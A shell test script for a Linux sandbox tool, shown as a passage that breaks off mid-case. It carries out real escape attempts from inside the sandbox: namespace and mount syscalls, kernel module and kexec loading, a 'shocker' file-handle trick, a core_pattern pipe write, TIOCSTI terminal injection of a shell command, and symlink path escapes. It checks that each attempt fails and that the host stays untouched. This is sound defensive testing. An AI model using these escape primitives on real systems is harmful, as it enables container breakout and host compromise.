#!/bin/sh
# Attacks a sandbox must stop, tried for real from inside: under
# --profile default, with no flags at all (the default profile), and under
# --profile strict (with the binds it needs to run sh and python3), as the
# caller and, when root, as nobody. Every case also checks the host side:
# nothing mounted, created, signalled, traced, injected or rewritten.
# The syscall decisions themselves (crafted arguments, kernel vs filter)
# are policy.sh's; here the arguments are the real ones an attacker uses.
. "$(dirname "$0")/../lib.sh"

PY=/usr/bin/python3
if [ ! -x "$PY" ]; then
  echo "1..0 # SKIP $PY not installed (the attacks are python3 scripts)"
  exit 0
fi

WORK="$TMP/work"         # the sandbox's cwd: bound read-write
HOSTONLY="$TMP/hostonly" # a host directory no sandbox here binds
OUTSIDE="$TMP/outside"   # where planted symlinks point on the host
mkdir -p "$WORK" "$HOSTONLY" "$OUTSIDE"
chmod 750 "$OUTSIDE"
echo marker >"$HOSTONLY/marker"
STRICT="--profile strict $SYS --bind $WORK $WORK --chdir $WORK"
NONCE="sbtest-$$-$(date +%s)"

# ---- the attacker's tools, written where every sandbox here can run them
cat >"$WORK/attack.py" <<'EOF'
# attack.py CASE[:ARG[:ARG]]...: performs each attack for real inside the
# sandbox and prints "CASE OK" (the attack worked) or "CASE ERRNO".
import ctypes, errno, os, socket, stat, struct, sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NR = dict(unshare=272, clone=56, clone3=435, mount=165, umount2=166,
          pivot_root=155, chroot=161, open_tree=428, move_mount=429,
          fsopen=430, fspick=433, mount_setattr=442, bpf=321,
          perf_event_open=298, userfaultfd=323, io_uring_setup=425,
          add_key=248, keyctl=250, init_module=175, finit_module=313,
          kexec_load=246, kexec_file_load=320, open_by_handle_at=304,
          name_to_handle_at=303, ptrace=101, ioctl=16, mknodat=259)
L = ctypes.c_long
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x20000, 0x10000000, 0x40000000

class Fail(Exception):
    pass

def sc(name, *args):
    conv = [L(a) if isinstance(a, int) else a for a in args]
    r = libc.syscall(L(NR[name]), *conv)
    if r < 0:
        raise Fail(ctypes.get_errno())
    return r

def reap(pid):
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)

def a_unshare(kind):
    sc("unshare", {"user": CLONE_NEWUSER, "mnt": CLONE_NEWNS, "net": CLONE_NEWNET}[kind])

def a_clone(kind):
    # fork-like: no stack, SIGCHLD; the child exits at once.
    reap(sc("clone", {"user": CLONE_NEWUSER, "mnt": CLONE_NEWNS, "net": CLONE_NEWNET}[kind] | 17, 0, 0, 0, 0))

def a_clone3(kind):
    flags = {"user": CLONE_NEWUSER, "mnt": CLONE_NEWNS, "net": CLONE_NEWNET}[kind]
    args = ctypes.create_string_buffer(struct.pack("<8Q", flags, 0, 0, 0, 17, 0, 0, 0), 64)
    reap(sc("clone3", args, 64))

def a_mount(target):
    sc("mount", b"none", target.encode(), b"tmpfs", 0, None)

def a_remount_rw(target):
    MS_REMOUNT, MS_BIND = 32, 4096
    sc("mount", None, target.encode(), None, MS_REMOUNT | MS_BIND, None)

def a_umount(target):
    sc("umount2", target.encode(), 2)  # MNT_DETACH

def a_fsopen():
    sc("fsopen", b"tmpfs", 0)

def a_open_tree(path):
    sc("open_tree", -100, path.encode(), 1)  # OPEN_TREE_CLONE

def a_move_mount(src, dst):
    sc("move_mount", -100, src.encode(), -100, dst.encode(), 0)

def a_fspick(path):
    sc("fspick", -100, path.encode(), 0)

def a_mount_setattr(path):
    # clear MOUNT_ATTR_RDONLY: a read-only bind made writable
    attr = ctypes.create_string_buffer(struct.pack("<QQQQ", 0, 1, 0, 0), 32)
    sc("mount_setattr", -100, path.encode(), 0, attr, 32)

def a_pivot_root():
    sc("pivot_root", b".", b".")

def a_chroot():
    sc("chroot", b"/tmp")

def a_bpf():
    # BPF_MAP_CREATE, an array map of one int
    attr = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 4, 1), 128)
    os.close(sc("bpf", 0, attr, 128))

def a_perf():
    # PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK, this process
    attr = ctypes.create_string_buffer(struct.pack("<IIQ", 1, 128, 0), 128)
    os.close(sc("perf_event_open", attr, 0, -1, -1, 0))

def a_userfaultfd():
    os.close(sc("userfaultfd", os.O_CLOEXEC | 1))  # UFFD_USER_MODE_ONLY

def a_io_uring():
    params = ctypes.create_string_buffer(120)
    os.close(sc("io_uring_setup", 4, params))

def a_add_key(name):
    sc("add_key", b"user", name.encode(), b"x", 1, -3)  # KEY_SPEC_SESSION_KEYRING

def a_keyctl_join(name):
    sc("keyctl", 1, name.encode(), 0, 0, 0)  # KEYCTL_JOIN_SESSION_KEYRING

def a_init_module():
    img = ctypes.create_string_buffer(b"\x7fELF" + b"\0" * 60)
    sc("init_module", img, 64, b"")

def a_finit_module():
    fd = os.open("/dev/null", os.O_RDONLY)
    sc("finit_module", fd, b"", 0)

def a_kexec_load():
    sc("kexec_load", 0, 0, None, 0)

def a_kexec_file_load():
    fd = os.open("/dev/null", os.O_RDONLY)
    sc("kexec_file_load", fd, fd, 1, b"", 4)

def a_open_by_handle():
    # "shocker": a handle names an inode by number; ext4's root is inode 2
    # (FILEID_INO32_GEN), whatever directory the sandbox shows.
    h = ctypes.create_string_buffer(struct.pack("<iiII", 8, 1, 2, 0), 16)
    mfd = os.open("/usr", os.O_RDONLY | os.O_DIRECTORY)
    os.close(sc("open_by_handle_at", mfd, h, os.O_RDONLY | os.O_DIRECTORY))

def a_ptrace(pid):
    sc("ptrace", 16, int(pid), 0, 0)  # PTRACE_ATTACH
    sc("ptrace", 17, int(pid), 0, 0)

def a_kill(pid, sig):
    os.kill(int(pid), int(sig))

def a_visible(pid):
    # the pid exists here and is not one of the sandbox's own
    os.stat("/proc/%s" % pid)

def a_ioctl(fd, req, text):
    # one ioctl per byte (TIOCSTI), or the TIOCLINUX subcode
    for ch in text.encode():
        c = ctypes.c_char(bytes([ch]))
        sc("ioctl", int(fd), ctypes.c_ulong(int(req, 0)), ctypes.byref(c))

def a_mknod(path, kind):
    major, minor, mode = {"sda": (8, 0, 0o60600), "mem": (1, 1, 0o20600)}[kind]
    sc("mknodat", -100, path.encode(), mode, os.makedev(major, minor))

def a_write(path, text):
    fd = os.open(path, os.O_WRONLY)
    try:
        os.write(fd, text.encode())
    finally:
        os.close(fd)

def a_openw(path):
    # opened for writing, but nothing written (sysrq-trigger)
    os.close(os.open(path, os.O_WRONLY))

def a_sethostname(name):
    libc.sethostname(name.encode(), len(name)) == 0 or (_ for _ in ()).throw(Fail(ctypes.get_errno()))

def a_connect(kind, addr):
    fam = socket.AF_INET if kind == "tcp" else socket.AF_UNIX
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.settimeout(3)
    if kind == "tcp":
        s.connect(("127.0.0.1", int(addr)))
    elif kind == "abstract":
        s.connect("\0" + addr)
    else:
        s.connect(addr)
    s.sendall(b"hello from the sandbox\n")
    s.close()

def a_fds():
    # this process's descriptors (the one listdir used is closed by now)
    links = {}
    for f in os.listdir("/proc/self/fd"):
        try:
            links[int(f)] = os.readlink("/proc/self/fd/" + f)
        except OSError:
            pass
    print("fds", " ".join(str(f) for f in sorted(links)))
    for f in sorted(links):
        print("fd", f, links[f])

def a_others_dirfds():
    # every process in sight: none may hold a directory open (a handle on
    # the host's tree)
    bad = []
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == os.getpid():
            continue
        try:
            for f in os.listdir("/proc/%s/fd" % p):
                try:
                    if stat.S_ISDIR(os.stat("/proc/%s/fd/%s" % (p, f)).st_mode):
                        bad.append("%s/%s" % (p, f))
                except OSError:
                    pass
        except OSError:
            pass
    if bad:
        print("dirfds", " ".join(bad))
    else:
        raise Fail(errno.ENOENT)

for arg in sys.argv[1:]:
    name, *params = arg.split(":")
    try:
        globals()["a_" + name.replace("-", "_")](*params)
        res = "OK"
    except Fail as e:
        res = errno.errorcode.get(e.args[0], str(e.args[0]))
    except OSError as e:
        res = errno.errorcode.get(e.errno, str(e.errno)) if e.errno else type(e).__name__
    except Exception as e:
        res = type(e).__name__
    # The label: the case and its arguments, but never text to inject.
    label = ":".join([name] + params[:2]) if name == "ioctl" else arg
    print(label, res, flush=True)
EOF
cat >"$TMP/pty_run.py" <<'EOF'
# pty_run.py DIR CMD...: runs CMD from DIR on a new pseudo-terminal, as the
# foreground job of a shell that then reads one line from that terminal and
# executes it (a stand-in for the user's interactive shell). Prints
# everything the terminal showed. "true" is typed once CMD is done, so
# the shell only runs something else if CMD pushed it into the input.
import os, pty, select, sys, time
d, cmd = sys.argv[1], sys.argv[2:]
script = 'cd "$1" && shift && "$@"; echo "SB-DONE rc=$?"; IFS= read -r line; eval "$line"; echo SB-AFTER'
pid, fd = pty.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh", "-c", script, "sh", d] + cmd)
out, typed, end = b"", False, time.time() + 60
while time.time() < end:
    r, _, _ = select.select([fd], [], [], 0.2)
    if r:
        try:
            data = os.read(fd, 4096)
        except OSError:
            break
        if not data:
            break
        out += data
    if not typed and b"SB-DONE" in out:
        time.sleep(0.3)
        os.write(fd, b"true\n")
        typed = True
os.waitpid(pid, 0)
sys.stdout.write(out.decode(errors="replace").replace("\r", ""))
EOF
chmod -R a+rX "$WORK" "$TMP/pty_run.py"

# sbx MODE [OPTIONS... --] CMD...: runs CMD in the sandbox MODE (default,
# noflags, strict) from $WORK; OPTIONS only where MODE takes options. Sets
# OUT, ERR, RC.
sbx() {
  mode=$1
  shift
  case $mode in
  default) set -- --profile default "$@" ;;
  noflags) ;;
  strict) set -- $STRICT "$@" ;;
  esac
  (cd "$WORK" && "$SB" "$@") >"$TMP/out" 2>"$TMP/err"
  RC=$?
  OUT=$(cat "$TMP/out")
  ERR=$(cat "$TMP/err")
}



# res CASE: the attack's result in $OUT ("OK" = it worked).
res() { printf '%s\n' "$OUT" | awk -v c="$1" '$1 == c { print $2; exit }'; }
# stopped LABEL CASE ERRNO-REGEX: the attack ran and failed as expected.
stopped() {
  r=$(res "$2")
  case $r in
  "") not_ok "$1: $2 did not run"; diag "rc=$RC" "out: $OUT" "err: $ERR" ;;
  OK) not_ok "$1: $2 is stopped"; diag "the attack succeeded" ;;
  *) expect_match "$1: $2 is stopped ($3)" "^($3)$" "$r" ;;
  esac
}

# The host's mounts at the places these attacks aim (what they would mount
# on, remount or unmount; where symlinks point; set-up's own names), with
# their options. Not the whole table: other programs mount meanwhile
# (meson runs tests in parallel; automounts such as binfmt_misc come and
# go), and that once failed this check with no attack at all.
host_mounts() {
  awk '{ print $5, $6 }' /proc/self/mountinfo |
    grep -E "^(/|/tmp|/run|/proc|/proc/sys|/var/tmp) |^(/usr|/etc|/t|/link|/s|/e|$TMP)[ /]|newroot|oldroot" | sort
}
host_keys() { grep -c "$NONCE" /proc/keys 2>/dev/null; }
proc_field() { sed -n "s/^$2:[[:space:]]*//p" "/proc/$1/status" 2>/dev/null; }

# A host process to aim at, and the listeners: an abstract unix socket, a
# unix socket in a directory the sandbox does not see, TCP on 127.0.0.1.
sleep 600 &
VICTIM=$!
cat >"$TMP/listen.py" <<'EOF'
import os, select, socket, sys
log, ready, name, path = sys.argv[1:5]
socks = []
for fam, addr in ((socket.AF_UNIX, "\0" + name), (socket.AF_UNIX, path),
                  (socket.AF_INET, ("127.0.0.1", 0))):
    s = socket.socket(fam, socket.SOCK_STREAM)
    s.bind(addr)
    s.listen(8)
    socks.append(s)
with open(ready + ".tmp", "w") as f:
    f.write("%d\n" % socks[2].getsockname()[1])
os.rename(ready + ".tmp", ready)
while True:
    r, _, _ = select.select(socks, [], [], 600)
    if not r:
        break
    for s in r:
        c, _ = s.accept()
        with open(log, "a") as f:
            f.write("accepted on %r\n" % (s.getsockname(),))
        c.close()
EOF
ABSTRACT="$NONCE-abstract"
: >"$TMP/accepted"
$PY "$TMP/listen.py" "$TMP/accepted" "$TMP/ready" "$ABSTRACT" "$HOSTONLY/sock" &
LISTENER=$!
n=0
while [ ! -e "$TMP/ready" ] && [ $n -lt 600 ]; do sleep 0.1; n=$((n + 1)); done
PORT=$(cat "$TMP/ready" 2>/dev/null)
HOST_CORE=$(cat /proc/sys/kernel/core_pattern)
HOST_HOSTNAME=$(cat /proc/sys/kernel/hostname)
# restore_host: should an attack have worked, the host as it was (also on
# an early exit).
restore_host() {
  [ "$(cat /proc/sys/kernel/core_pattern)" = "$HOST_CORE" ] ||
    printf '%s\n' "$HOST_CORE" >/proc/sys/kernel/core_pattern 2>/dev/null
  [ "$(cat /proc/sys/kernel/hostname)" = "$HOST_HOSTNAME" ] ||
    printf '%s\n' "$HOST_HOSTNAME" >/proc/sys/kernel/hostname 2>/dev/null
}
trap 'restore_host; kill $VICTIM $LISTENER 2>/dev/null; cleanup' EXIT
# sync_listeners: the host connects to each listener and waits for the
# listener to close (after it logged the connection). Each accept queue is
# FIFO: whatever reached a listener before is logged by then too. A point
# to look at the log from, not a time; it adds one line per listener.
sync_listeners() {
  $PY - "$ABSTRACT" "$PORT" "$HOSTONLY/sock" <<'EOF'
import socket, sys
for fam, addr in ((socket.AF_UNIX, "\0" + sys.argv[1]), (socket.AF_INET, ("127.0.0.1", int(sys.argv[2]))),
                  (socket.AF_UNIX, sys.argv[3])):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(60); s.connect(addr); s.recv(1); s.close()
EOF
}
# The listeners answer the host: the sandbox's failures below are not the
# listeners' absence.
sync_listeners
expect_eq "the host reaches its own listeners (abstract, tcp, unix)" 3 "$(wc -l <"$TMP/accepted")"
: >"$TMP/accepted"

HOST_PID1=$(tr '\0' ' ' </proc/1/cmdline 2>/dev/null)

# Every syscall attack, with the arguments that would do harm. Ordered:
# umount of the /proc/sys cover comes before the sysctl writes it would
# expose.
ATTACKS="unshare:user unshare:mnt unshare:net clone:user clone:mnt clone:net
clone3:user clone3:net mount:/tmp remount-rw:/usr umount:/proc/sys umount:/usr
fsopen open-tree:/usr move-mount:/tmp:/run fspick:/usr mount-setattr:/usr
pivot-root chroot bpf perf userfaultfd io-uring add-key:$NONCE-key
keyctl-join:$NONCE-ring init-module finit-module kexec-load kexec-file-load
open-by-handle
write:/proc/sys/kernel/core_pattern:|/sbtest-pwned
write:/proc/sys/kernel/hostname:sbtest-pwned sethostname:sbtest-pwned
write:/sys/kernel/uevent_helper:/sbtest-pwned
mknod:/tmp/sda:sda mknod:/tmp/mem:mem mknod:$WORK/sda:sda mknod:$WORK/mem:mem
connect:abstract:$ABSTRACT connect:tcp:$PORT connect:unix:$HOSTONLY/sock
visible:$VICTIM visible:$$ kill:$VICTIM:0 kill:$VICTIM:9 kill:$$:0 ptrace:$VICTIM
ioctl:0:0x5412:x ioctl:0:0x100005412:x ioctl:0:0x541C:3"
if [ -e /proc/sysrq-trigger ]; then ATTACKS="$ATTACKS openw:/proc/sysrq-trigger"; fi

for mode in default noflags strict; do
  L=$mode
  mounts_before=$(host_mounts)

  # ---- syscalls, for real ----
  # shellcheck disable=SC2086
  sbx $mode -- $PY attack.py $ATTACKS
  for u in user mnt net; do
    stopped "$L" unshare:$u EPERM
    stopped "$L" clone:$u EPERM
  done
  stopped "$L" clone3:user "ENOSYS|EPERM"
  stopped "$L" clone3:net "ENOSYS|EPERM"
  stopped "$L" mount:/tmp EPERM
  stopped "$L" remount-rw:/usr EPERM
  stopped "$L" umount:/proc/sys EPERM
  stopped "$L" umount:/usr EPERM
  for c in fsopen open-tree:/usr move-mount:/tmp:/run fspick:/usr mount-setattr:/usr; do
    stopped "$L" $c "ENOSYS|EPERM"
  done
  stopped "$L" pivot-root EPERM
  stopped "$L" chroot EPERM
  stopped "$L" bpf EPERM
  stopped "$L" perf EPERM
  stopped "$L" userfaultfd EPERM
  stopped "$L" io-uring "ENOSYS|EPERM"
  stopped "$L" add-key:$NONCE-key EPERM
  stopped "$L" keyctl-join:$NONCE-ring EPERM
  for c in init-module finit-module kexec-load kexec-file-load open-by-handle; do
    stopped "$L" $c EPERM
  done
  # The host's sysctls: read-only even for a root caller; /sys not there.
  stopped "$L" "write:/proc/sys/kernel/core_pattern:|/sbtest-pwned" "EROFS|EACCES|EPERM"
  stopped "$L" write:/proc/sys/kernel/hostname:sbtest-pwned "EROFS|EACCES|EPERM"
  stopped "$L" sethostname:sbtest-pwned EPERM
  stopped "$L" write:/sys/kernel/uevent_helper:/sbtest-pwned "ENOENT|EROFS|EACCES"
  if [ -e /proc/sysrq-trigger ]; then
    stopped "$L" openw:/proc/sysrq-trigger "EROFS|EACCES|ENOENT"
  else
    skip "$L: /proc/sysrq-trigger (kernel without CONFIG_MAGIC_SYSRQ)"
  fi
  # Device nodes: none can be made, in the sandbox's /tmp or in the bound
  # (host) working directory (Landlock, which grants no right to make
  # them, answers EACCES before the capability check's EPERM).
  for c in mknod:/tmp/sda:sda mknod:/tmp/mem:mem mknod:$WORK/sda:sda mknod:$WORK/mem:mem; do
    stopped "$L" $c "EPERM|EACCES"
  done
  # Host sockets: another network namespace; strict has no inet sockets;
  # Landlock refuses TCP connect without network (EACCES).
  stopped "$L" connect:abstract:$ABSTRACT "ECONNREFUSED|ENOENT|EPERM"
  stopped "$L" connect:tcp:$PORT "ECONNREFUSED|ENETUNREACH|EPERM|EACCES"
  stopped "$L" connect:unix:$HOSTONLY/sock "ENOENT"
  # Host processes: not even visible from the sandbox's pid namespace.
  stopped "$L" visible:$VICTIM ENOENT
  stopped "$L" visible:$$ ENOENT
  stopped "$L" kill:$VICTIM:0 ESRCH
  stopped "$L" kill:$VICTIM:9 ESRCH
  stopped "$L" kill:$$:0 ESRCH
  stopped "$L" ptrace:$VICTIM "ESRCH|EPERM"
  # Terminal ioctls (on a pipe here; on a real terminal below).
  stopped "$L" ioctl:0:0x5412 EPERM
  stopped "$L" ioctl:0:0x100005412 EPERM
  stopped "$L" ioctl:0:0x541C EPERM

  # ---- the host afterwards ----
  expect_eq "$L: host mount table unchanged" "$mounts_before" "$(host_mounts)"
  expect_eq "$L: no key reached the caller's keyrings" 0 "$(host_keys)"
  expect_eq "$L: host core_pattern unchanged" "$HOST_CORE" "$(cat /proc/sys/kernel/core_pattern)"
  expect_eq "$L: host hostname unchanged" "$HOST_HOSTNAME" "$(cat /proc/sys/kernel/hostname)"
  restore_host
  expect_eq "$L: no device node in the host directory" "" "$(find "$WORK" -type b -o -type c)"
  sync_listeners
  expect_eq "$L: the host listeners accepted nothing (but the host's own 3)" 3 "$(wc -l <"$TMP/accepted")"
  [ "$(wc -l <"$TMP/accepted")" = 3 ] || diag "$(cat "$TMP/accepted")"
  : >"$TMP/accepted"
  check "$L: the host process is alive" kill -0 $VICTIM
  expect_eq "$L: the host process is not stopped nor traced" "S 0" \
    "$(proc_field $VICTIM State | cut -c1) $(proc_field $VICTIM TracerPid)"

  # ---- namespaces through unshare(1) ----
  for o in -U -Ur -m -n -p; do
    sbx $mode -- unshare $o true
    expect_match "$L: unshare $o fails" "^[1-9]" "$RC"
  done

  # ---- the sandbox's pid 1 is not the host's ----
  sbx $mode -- sh -c 'tr "\0" " " </proc/1/cmdline; echo; ls /proc | grep -c "^[0-9][0-9]*$"'
  expect_nomatch "$L: /proc/1 is not the host's init" "^$(printf '%s' "$HOST_PID1" | sed 's/[][\.*^$|+?(){}]/\\&/g')\$" "$(echo "$OUT" | sed -n 1p)"
  expect_match "$L: only the sandbox's few processes are visible" '^[1-5]$' "$(echo "$OUT" | sed -n 2p)"

  # ---- host files outside the binds ----
  sbx $mode -- sh -c 'for p in "$1" "$2" /root; do test -e "$p" && echo "$p visible"; done; echo end' sh "$HOSTONLY/marker" "$HOSTONLY"
  expect_eq "$L: a host marker outside the binds, its directory, /root: absent" "end" "$OUT"
  case $HOME in
  / | "" | "$WORK"*) skip "$L: \$HOME ($HOME) is / or holds the cwd" ;;
  *)
    sbx $mode -- sh -c 'ls -A "$1" 2>/dev/null | head -n 3; echo end' sh "$HOME"
    expect_eq "$L: \$HOME's contents are not visible" "end" "$OUT"
    ;;
  esac
  if [ $mode != strict ]; then
    sbx $mode -- sh -c 'cat /etc/shadow /etc/gshadow 2>/dev/null | wc -c'
    expect_eq "$L: /etc/shadow and /etc/gshadow give nothing away" "0" "$OUT"
  fi

  # ---- raw devices ----
  sbx $mode -- sh -c 'find /dev -type b | head -n 3
    for d in mem kmem port kmsg sda vda nvme0n1 tty0 tty1 console0 loop0 loop-control fuse net/tun; do
      test -e /dev/$d && echo "/dev/$d"
    done; echo end'
  expect_eq "$L: no block device, no mem/kmem/port/disk/vt/loop/fuse/tun in /dev" "end" "$OUT"

  # ---- capabilities, no_new_privs, set-user-ID programs ----
  sbx $mode -- sh -c 'grep -E "^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs):" /proc/self/status | tr -s "\t" " "'
  expect_eq "$L: no capabilities in any set, NoNewPrivs" \
    "CapInh: 0000000000000000 CapPrm: 0000000000000000 CapEff: 0000000000000000 CapBnd: 0000000000000000 CapAmb: 0000000000000000 NoNewPrivs: 1" \
    "$(echo $OUT)"
  # A set-user-ID root program waiting for a password: its ids and
  # capabilities as it runs. Read once it has exec'd (its argv[0]) and
  # sleeps (on its input), not after a time; one that ends first is not
  # counted. (The bound, 60 s, only stops a broken run.)
  sbx $mode -- sh -c '
    seen=0
    for b in /usr/bin/passwd /usr/bin/newgrp /usr/bin/su /bin/mount; do
      [ -u "$b" ] || continue
      f=/tmp/fifo.$$; mkfifo $f
      (exec sleep 600 >$f) & w=$!
      "$b" <$f >/dev/null 2>&1 & p=$!
      i=0 st=
      while [ $i -lt 1200 ]; do
        case $(sed -n "s/^State:[[:space:]]*\(.\).*/\1/p" /proc/$p/status 2>/dev/null) in
        "" | Z | X) break ;;
        S) [ "$(head -zn1 /proc/$p/cmdline | tr -d "\0")" = "$b" ] &&
             { st=$(grep -E "^(Uid|CapEff):" /proc/$p/status 2>/dev/null | tr -s "\t" " " | tr "\n" " "); break; } ;;
        esac
        sleep 0.05; i=$((i + 1))
      done
      kill $p $w 2>/dev/null; wait 2>/dev/null; rm -f $f
      [ -n "$st" ] || continue
      seen=$((seen + 1))
      u=$(id -u)
      [ "$st" = "Uid: $u $u $u $u CapEff: 0000000000000000 " ] || echo "$b gained: $st"
    done
    echo "seen $seen"'
  expect_match "$L: set-user-ID programs gain no uid and no capability" '^seen [1-9][0-9]*$' "$OUT"

  # ---- descriptors: only the command's own ----
  # Launched with nothing but 0, 1, 2 open, then with 5 passed on purpose.
  (cd "$WORK" && $PY -c 'import os, sys; os.closerange(3, 65536); os.execv(sys.argv[1], sys.argv[1:])' \
    "$SB" $( [ $mode = default ] && echo --profile default; [ $mode = strict ] && echo $STRICT) -- \
    $PY attack.py fds others-dirfds) >"$TMP/out" 2>"$TMP/err"
  OUT=$(cat "$TMP/out")
  expect_eq "$L: the command holds only 0, 1, 2" "fds 0 1 2" "$(echo "$OUT" | sed -n 1p)"
  expect_eq "$L: no process in the sandbox holds a directory fd" "others-dirfds ENOENT" "$(echo "$OUT" | tail -n 1)"
  (cd "$WORK" && $PY -c 'import os, sys; os.closerange(3, 65536); os.dup2(0, 5); os.execv(sys.argv[1], sys.argv[1:])' \
    "$SB" $( [ $mode = default ] && echo --profile default; [ $mode = strict ] && echo $STRICT) -- \
    $PY attack.py fds) </dev/null >"$TMP/out" 2>"$TMP/err"
  expect_eq "$L: ... plus the fd the caller passes" "fds 0 1 2 5" "$(sed -n 1p "$TMP/out")"

  # ---- writes: the working directory reaches the host, a --ro-bind does not
  rm -rf "$WORK/sub" "$WORK/top"
  sbx $mode -- sh -c 'mkdir -p sub && echo w >sub/f && echo t >./top'
  expect_eq "$L: writes to the cwd land in the host's directory" "0 w t" \
    "$RC $(cat "$WORK/sub/f" 2>/dev/null) $(cat "$WORK/top" 2>/dev/null)"
  if [ $mode != noflags ]; then
    mkdir -p "$TMP/ro"
    echo orig >"$TMP/ro/existing"
    # Writable by anyone: the mount refuses, not the file's permissions
    # (a root caller's sandbox does not own root's files).
    chmod 777 "$TMP/ro"
    chmod 666 "$TMP/ro/existing"
    sbx $mode --ro-bind "$TMP/ro" /ro -- sh -c '
      echo x >/ro/new; echo y >>/ro/existing; rm -f /ro/existing; mkdir /ro/d; ln -s x /ro/l; chmod 777 /ro/existing
      echo done'
    expect_eq "$L: --ro-bind refuses every write" "done $(ls -A "$TMP/ro" | tr '\n' ' ')orig 666" \
      "$OUT $(ls -A "$TMP/ro" | tr '\n' ' ')$(cat "$TMP/ro/existing") $(stat -c %a "$TMP/ro/existing")"
    expect_eq "$L: --ro-bind: six refusals" 6 "$(printf '%s\n' "$ERR" | grep -c -i 'read-only')"
  fi
done

# ---- terminal injection on a real terminal ----
# The sandbox runs as the foreground job of a shell on a fresh pty; that
# shell then executes the next line it reads from the terminal. TIOCSTI
# (and its 0x100005412 spelling) would push "touch $TMP/pwned.X" there.
NL='
'
# pty_inject LABEL X OPTIONS...: tries both spellings from the sandbox.
pty_inject() {
  label=$1 x=$2
  shift 2
  rm -f "$TMP/pwned.$x"*
  for v in lo:0:0x5412 hi:1:0x100005412; do
    $PY "$TMP/pty_run.py" "$WORK" "$SB" "$@" -- $PY attack.py \
      "ioctl:${v#*:}:touch $TMP/pwned.$x.${v%%:*}$NL" >"$TMP/pty.${v%%:*}" 2>&1
  done
  # TIOCLINUX's paste-selection subcode (CVE-2023-28100; harmful on a VT).
  $PY "$TMP/pty_run.py" "$WORK" "$SB" "$@" -- $PY attack.py "ioctl:0:0x541C:$(printf '\003')" >"$TMP/pty.linux" 2>&1
  PTY_LO=$(cat "$TMP/pty.lo") PTY_HI=$(cat "$TMP/pty.hi") PTY_LINUX=$(cat "$TMP/pty.linux")
}
pty_inject control control --profile base-fs --bind "$WORK" "$WORK" --chdir "$WORK"
if [ -e "$TMP/pwned.control.lo" ]; then
  ok "control: without a filter or a new session, TIOCSTI reaches the host shell"
else
  skip "the kernel refuses TIOCSTI here even unfiltered (dev.tty.legacy_tiocsti=0?): nothing to tell apart"
fi
for mode in filter-only default noflags strict; do
  case $mode in
  filter-only) set -- --profile base-fs --profile base-syscalls --bind "$WORK" "$WORK" --chdir "$WORK" ;;
  default) set -- --profile default ;;
  noflags) set -- ;;
  strict) set -- $STRICT ;;
  esac
  pty_inject $mode $mode "$@"
  for v in lo hi; do
    eval "o=\$PTY_$(echo $v | tr a-z A-Z)"
    expect_match "$mode: TIOCSTI ($v) on the terminal is refused" "^ioctl:[01]:0x[0-9a-f]+ EPERM$" "$o"
    if [ -e "$TMP/pwned.$mode.$v" ]; then
      not_ok "$mode: TIOCSTI ($v): nothing injected into the host shell"
      diag "the injected command ran on the host"
    else
      expect_match "$mode: TIOCSTI ($v): nothing injected into the host shell" "^true$" "$o"
    fi
    expect_nomatch "$mode: TIOCSTI ($v): the terminal never showed the text" "pwned" "$o"
  done
  expect_match "$mode: TIOCLINUX on the terminal is refused" "^ioctl:0:0x541C EPERM$" "$PTY_LINUX"
done

# ---- symlinks planted in a bound host directory or made by an earlier op ----
# "abs" names the host through the set-up's view of it (/oldroot), "up"
# climbs there with "..", "host" is the host path itself: each must resolve
# inside the new root, where it leads nowhere; nothing may appear on the
# host, and the host's mount table must not move.
EVIL="$TMP/evil" SRCD="$TMP/srcd"
mkdir -p "$EVIL" "$SRCD"
echo src >"$SRCD/file"
ln -s "/oldroot$OUTSIDE" "$EVIL/abs"
ln -s "../../../../../../../../../../../../oldroot$OUTSIDE" "$EVIL/up"
ln -s "$OUTSIDE" "$EVIL/host"
ln -s /etc "$EVIL/etc"
ln -s /t "$EVIL/inside"
outside_state() { echo "$(ls -A "$OUTSIDE" | tr '\n' ' ')$(stat -c %a "$OUTSIDE")"; }
OUTSIDE_BEFORE=$(outside_state)
# outside_same LABEL: the host side is as before; put it back if not, so
# that each case is judged on its own.
outside_same() {
  expect_eq "$1" "$OUTSIDE_BEFORE" "$(outside_state)"
  find "$OUTSIDE" -mindepth 1 -delete 2>/dev/null
  chmod 750 "$OUTSIDE"
}
for mode in default strict; do
  L="$mode: symlink"
  mounts_before=$(host_mounts)
  for l in abs up host; do
    for op in "--dir /e/$l/newdir" "--tmpfs /e/$l/mnt" "--ro-bind $SRCD /e/$l/bound" \
      "--bind $SRCD/file /e/$l/bfile" "--symlink x /e/$l/lnk" "--chmod 0777 /e/$l" \
      "--file 3 /e/$l/file" "--bind-data 3 /e/$l/data" "--dir /e/$l/a/b/c"; do
      # shellcheck disable=SC2086
      sbx $mode --bind "$EVIL" /e $op -- true 3<"$SRCD/file"
      outside_same "$L $l: $op stays in the new root"
    done
  done
  # Made by the sandbox itself, then used.
  for t in "/oldroot$OUTSIDE" "../../../../../../../../oldroot$OUTSIDE"; do
    for op in "--dir /s/newdir" "--tmpfs /s/mnt" "--file 3 /s/file" "--ro-bind $SRCD /s/bound"; do
      # shellcheck disable=SC2086
      sbx $mode --symlink "$t" /s $op -- true 3<"$SRCD/file"
      outside_same "$L --symlink $t /s: $op stays in the new root"
    done
  done
  # Plain "..", no symlink at all.
  sbx $mode --dir "/../../../oldroot$OUTSIDE/dotdot" --tmpfs "/e/../../oldroot$OUTSIDE/dotdot2" -- true
  outside_same "$L: a destination with .. stays in the new root"
  # Into the read-only /etc (the sandbox's, not the host's).
  sbx $mode --bind "$EVIL" /e --tmpfs /e/etc/sbtest-attack -- true
  check "$L etc -> /etc: the host's /etc is untouched" test ! -e /etc/sbtest-attack
  # Absolute symlinks that stay inside resolve inside.
  sbx $mode --tmpfs /t --bind "$EVIL" /e --dir /e/inside/made -- test -d /t/made
  expect_eq "$L inside -> /t: --dir lands in the sandbox's /t" 0 "$RC"
  sbx $mode --tmpfs /t --symlink /t /link --bind "$SRCD" /link/x -- cat /t/x/file
